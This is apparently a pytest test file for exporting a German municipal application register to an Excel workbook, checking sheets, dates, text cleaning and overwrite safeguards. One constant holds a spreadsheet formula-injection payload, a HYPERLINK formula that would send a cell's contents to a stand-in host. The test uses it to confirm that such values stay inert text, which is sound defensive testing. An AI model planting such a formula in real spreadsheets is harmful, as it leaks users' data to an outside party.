"""``ews export``: the register, built by the real intake over generated PDFs, as a workbook
read back with openpyxl."""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from ews.core.deadlines import BERLIN
from ews.core.form_contract import LABELS
from ews.intake import passes as intake
from ews.register.reports import application_records, journal_records, record_stamp
from ews.runtime.settings import Settings
from ews.selection.export_xlsx import export_register
from flows.cli import app
from tests.conftest import REPO
from tests.support import pdfgen

INJECTION = '=HYPERLINK("https://example.invalid/?x="&A1;"Klick")'
PHONE = "+49 2351 17-1234"
SUMMER = datetime(2026, 7, 1, 10, 0, tzinfo=BERLIN)  # MESZ, UTC+2
WINTER = datetime(2027, 2, 28, 14, 30, tzinfo=BERLIN)  # MEZ, UTC+1


def stamped_pass(settings: Settings, name: str, data: bytes, stamp: datetime) -> None:
    path = settings.inbox_dir / name
    path.write_bytes(data)
    assert "Eingangsstempel" in record_stamp(settings, path, stamp, actor="Test",
                                             now=datetime.now(BERLIN))
    [result] = intake.run_pass(settings)
    assert result.outcome != "duplicate"


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, Path]:
    """Lüdenscheid applies twice (the second replaces the first), then an invalid form."""
    from tests.conftest import make_settings

    settings = make_settings(tmp_path_factory.mktemp("register"))
    intake.prepare(settings)
    # control characters survive the intake, but a workbook cannot hold them
    first = dict(pdfgen.VALUES, strukturen="Freiwilligen\x07zentrum\x0b seit 2009")
    stamped_pass(settings, "erste.pdf", pdfgen.filled_form(first), SUMMER)
    second = dict(pdfgen.VALUES, motivation=INJECTION, team1_telefon=PHONE,
                  ehrenamtskarte=False)
    stamped_pass(settings, "zweite.pdf", pdfgen.filled_form(second), WINTER)
    broken = dict(pdfgen.VALUES, team1_email="keine-adresse", datenschutz=False)
    (settings.inbox_dir / "unvollständig.pdf").write_bytes(pdfgen.filled_form(broken))
    [invalid] = intake.run_pass(settings)
    assert invalid.outcome == "invalid"
    target = tmp_path_factory.mktemp("export") / "register.xlsx"
    assert export_register(settings, target) == target
    return settings, target


def rows(sheet: Any) -> list[dict[str, Any]]:
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def test_applications_sheet(exported: tuple[Settings, Path]) -> None:
    settings, target = exported
    book = load_workbook(target)
    assert book.sheetnames == ["Entscheidungen", "Bewerbungen", "Eingangsjournal",
                               "Schriftverkehr"]
    assert book.properties.title == "EWS-Register EWS 6"
    sheet = book["Bewerbungen"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == ["Aktenzeichen", "Kommune", "Gemeindeschlüssel", "Status", "Ersetzt durch",
                       "Eingang (MEZ/MESZ)", "Frist", *LABELS.values(), "Briefe"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(headers)).column_letter}3"
    first, second = rows(sheet)
    records = application_records(settings)
    assert [first["Aktenzeichen"], second["Aktenzeichen"]] == [r["az"] for r in records]
    assert [first["Status"], second["Status"]] == ["ersetzt", "registriert"]
    assert first["Ersetzt durch"] == second["Aktenzeichen"]
    # the AGS stays text with its leading zero
    ags = sheet.cell(2, headers.index("Gemeindeschlüssel") + 1)
    assert ags.data_type == "s" and ags.value == "05962032"
    # naive Berlin local time, summer and winter time, as a real date cell
    assert first["Eingang (MEZ/MESZ)"] == datetime(2026, 7, 1, 10, 0)
    assert second["Eingang (MEZ/MESZ)"] == datetime(2027, 2, 28, 14, 30)
    received = sheet.cell(3, headers.index("Eingang (MEZ/MESZ)") + 1)
    assert received.is_date and received.number_format == "DD.MM.YYYY HH:MM"
    deadline = sheet.cell(3, headers.index("Frist") + 1)
    assert deadline.is_date and deadline.number_format == "DD.MM.YYYY"
    assert deadline.value.date().isoformat() == records[1]["deadline_last_day"]
    # form fields under their printed labels; checkboxes in German
    assert second["Name der Kommune"] == "Stadt Lüdenscheid"
    assert second["Motivation"] == INJECTION
    assert first["Motivation"] == pdfgen.VALUES["motivation"]
    # the bell is read away; a vertical tab (Word's manual line break) in a multi-line
    # field is read as a line break (ews.core.plain_text)
    assert first["Vorhandene Strukturen der Engagementförderung"] == (
        "Freiwilligenzentrum\n seit 2009")
    assert (first["Teilnahme Ehrenamtskarte NRW"], second["Teilnahme Ehrenamtskarte NRW"]) == (
        "ja", "nein")
    assert second["Teammitglied 1 – Telefon"] == PHONE
    assert second["Briefe"] == "\n".join(Path(p).name for p in records[1]["letters"])
    assert str(second["Briefe"]).endswith(".docx")
    motivation = sheet.cell(2, headers.index("Motivation") + 1)
    assert motivation.alignment.wrap_text
    widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
    assert all(8 <= width <= 60 for width in widths)
    assert sheet.column_dimensions["A"].width >= len(records[0]["az"])


def test_values_starting_like_formulas_stay_text(exported: tuple[Settings, Path]) -> None:
    _, target = exported
    sheet = load_workbook(target)["Bewerbungen"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row
             if cell.value in (INJECTION, PHONE)]
    assert len(cells) == 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    assert any(b"HYPERLINK" in xml for xml in sheets)


def test_decision_sheet_lists_the_current_applications_of_the_round(
        exported: tuple[Settings, Path]) -> None:
    settings, target = exported
    sheet = load_workbook(target)["Entscheidungen"]
    assert (sheet["A1"].value, sheet["B1"].value) == ("Runde", "EWS 6")
    current = [r for r in application_records(settings) if r["status"] != "replaced"]
    assert [row[:4] for row in sheet.iter_rows(min_row=4, values_only=True)] == [
        (r["az"], r["kommune_name"], "fristgerecht", None) for r in current]
    assert len(current) == 1 and sheet.auto_filter.ref == "A3:K4"


def test_journal_sheet(exported: tuple[Settings, Path]) -> None:
    settings, target = exported
    sheet = load_workbook(target)["Eingangsjournal"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == ["Nr.", "Datei/Quelle", "Eingang (MEZ/MESZ)", "Ergebnis", "Aktenzeichen",
                       "Kommune", "Gründe"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:G4"
    assert all(cell.font.b for cell in sheet[1])
    journal = journal_records(settings)
    lines = rows(sheet)
    assert [r["Nr."] for r in lines] == [r["eingangsnummer"] for r in journal]
    assert [r["Datei/Quelle"] for r in lines] == ["erste.pdf", "zweite.pdf", "unvollständig.pdf"]
    assert [r["Ergebnis"] for r in lines] == ["registriert", "registriert", "ungültig"]
    for line, record in zip(lines, journal, strict=True):
        local = datetime.fromisoformat(record["received_at"]).astimezone(BERLIN)
        assert isinstance(line["Eingang (MEZ/MESZ)"], datetime)
        assert line["Eingang (MEZ/MESZ)"] == local.replace(tzinfo=None, microsecond=0)
    assert lines[1]["Eingang (MEZ/MESZ)"] == datetime(2027, 2, 28, 14, 30)
    assert lines[2]["Aktenzeichen"] is None
    assert lines[2]["Gründe"] == "\n".join(journal[2]["reasons"])
    assert "Einwilligung Datenschutz" in str(lines[2]["Gründe"])
    assert sheet.cell(4, 7).alignment.wrap_text


def test_export_replaces_an_existing_file_only_when_asked_and_leaves_no_temporary(
        exported: tuple[Settings, Path], tmp_path: Path) -> None:
    settings, _ = exported
    target = tmp_path / "alt.xlsx"
    target.write_bytes(b"alte Fassung")
    with pytest.raises(FileExistsError):
        export_register(settings, target)
    assert target.read_bytes() == b"alte Fassung"
    assert [p.name for p in tmp_path.iterdir()] == ["alt.xlsx"]
    export_register(settings, target, overwrite=True)
    assert load_workbook(target).sheetnames == ["Entscheidungen", "Bewerbungen",
                                                "Eingangsjournal", "Schriftverkehr"]
    assert [p.name for p in tmp_path.iterdir()] == ["alt.xlsx"]


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Settings from the environment only (no config/ews.env: the working folder is tmp)."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("EWS_DATABASE_URL", raising=False)
    for name, folder in (("INBOX", "inbox"), ("OUTBOX", "outbox"), ("DATA", "data")):
        monkeypatch.setenv(f"EWS_{name}_DIR", str(tmp_path / folder))
    monkeypatch.setenv("EWS_TEMPLATES_DIR", str(REPO / "templates"))
    monkeypatch.setenv("EWS_LETTERS__PDF", "false")
    return tmp_path


def flat(text: str) -> str:
    """CLI output without Rich's line wrapping."""
    return " ".join(text.split())


def test_cli_rejects_a_target_that_is_not_xlsx(cli_env: Path) -> None:
    result = CliRunner().invoke(app, ["export", str(cli_env / "register.csv")])
    assert result.exit_code == 2
    assert "endet nicht auf .xlsx" in flat(result.output)
    assert not (cli_env / "register.csv").exists()
    assert not (cli_env / "data").exists()  # rejected before touching the register


def test_cli_writes_the_register_and_reports_unwritable_targets(cli_env: Path) -> None:
    target = cli_env / "register.xlsx"
    result = CliRunner().invoke(app, ["export", str(target)])
    assert result.exit_code == 0, result.output
    assert "Register mit 0 Bewerbungen nach" in flat(result.output)
    assert load_workbook(target)["Bewerbungen"].max_row == 1
    missing = CliRunner().invoke(app, ["export", str(cli_env / "fehlt" / "register.xlsx")])
    assert missing.exit_code == 1
    assert "konnte nicht geschrieben werden" in flat(missing.output)
    assert "gibt es nicht" in flat(missing.output)


def test_cli_keeps_an_edited_sheet_unless_told_to_overwrite(cli_env: Path) -> None:
    target = cli_env / "register.xlsx"
    assert CliRunner().invoke(app, ["export", str(target)]).exit_code == 0
    edited = target.read_bytes() + b"Entscheidungen eingetragen"
    target.write_bytes(edited)

    refused = CliRunner().invoke(app, ["export", str(target)])

    assert refused.exit_code == 2
    message = flat(refused.output)
    assert f"Die Datei {target} gibt es schon" in message
    assert "--ueberschreiben" in message and f"ews auswahl import {target}" in message
    assert target.read_bytes() == edited
    replaced = CliRunner().invoke(app, ["export", str(target), "--ueberschreiben"])
    assert replaced.exit_code == 0, replaced.output
    assert load_workbook(target).sheetnames[0] == "Entscheidungen"


def test_cli_network_export_keeps_an_existing_file_unless_told_to_overwrite(
        cli_env: Path) -> None:
    target = cli_env / "netzwerk.xlsx"
    target.write_bytes(b"von Hand ergaenzt")

    refused = CliRunner().invoke(app, ["netzwerk", "export", str(target)])

    assert refused.exit_code == 2
    assert f"Die Datei {target} gibt es schon" in flat(refused.output)
    assert "--ueberschreiben" in flat(refused.output)
    assert target.read_bytes() == b"von Hand ergaenzt"
    replaced = CliRunner().invoke(app, ["netzwerk", "export", str(target), "--ueberschreiben"])
    assert replaced.exit_code == 0, replaced.output
    assert load_workbook(target).sheetnames == ["Netzwerk"]
    assert [p.name for p in cli_env.iterdir() if p.name.endswith(".tmp")] == []
